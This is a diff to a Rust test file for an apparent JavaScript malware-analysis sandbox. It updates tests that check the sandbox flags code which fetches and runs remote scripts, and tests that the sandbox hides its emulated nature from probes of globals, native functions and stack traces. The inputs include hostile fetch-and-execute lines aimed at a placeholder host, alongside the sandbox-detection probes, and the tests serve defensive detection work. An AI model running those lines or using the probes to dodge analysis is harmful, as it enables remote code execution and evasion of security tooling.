@@ -57,7 +57,12 @@ fn what_the_network_sends_and_the_code_runs_is_proven() {
         "require('child_process').exec('curl -s https://h.invalid | sh')",
         "fetch('https://h.invalid').then((r) => r.text()).then((t) => require('vm').runInNewContext(t, {}))",
     ] {
-        let seen = Scene::new().text(text);
+        let mut scene = Scene::new();
+        if text.contains("WebSocket") {
+            // Node 20 has none; the developer on macOS has a newer Node.
+            scene.world = WorldSpec::mac_developer();
+        }
+        let seen = scene.text(text);
         assert!(!seen.of(Operation::MarkerRan).is_empty(), "{text}\n{:#?}", seen.end);
     }
 }
@@ -125,11 +130,12 @@ fn pollution_neither_blinds_nor_breaks_the_world() {
 fn the_world_does_not_betray_itself() {
     let seen = Scene::new().text(
         "const odd = Object.getOwnPropertyNames(globalThis).filter((n) => /stockade|emulat|host|marker|quick/i.test(n)); \
-         const fns = [eval, setTimeout, require('fs').readFileSync, Math.random, Date, Function, fetch, process.exit, JSON.parse]; \
-         console.log(odd.length, fns.every((f) => /\\[native code\\]/.test(Function.prototype.toString.call(f))), \
-         typeof Function.prototype.fileName, new Error('x').stack.includes('internal/'), process.version, module.paths.length > 2)",
+         const isNative = (f) => /\\[native code\\]/.test(Function.prototype.toString.call(f)); \
+         console.log(odd.length, [eval, Math.random, Date, Function, JSON.parse, Function.prototype.toString].every(isNative), \
+         [setTimeout, require('fs').readFileSync, fetch, process.exit].some(isNative), typeof Function.prototype.fileName, \
+         /internal.(code|boot|module|stack|event_loop)\\b/.test(new Error('x').stack), process.version, module.paths.length > 2)",
     );
-    assert_eq!(seen.output(), "0 true undefined false v20.20.2 true\n");
+    assert_eq!(seen.output(), "0 true false undefined false v20.20.2 true\n");
 }
 
 #[test]
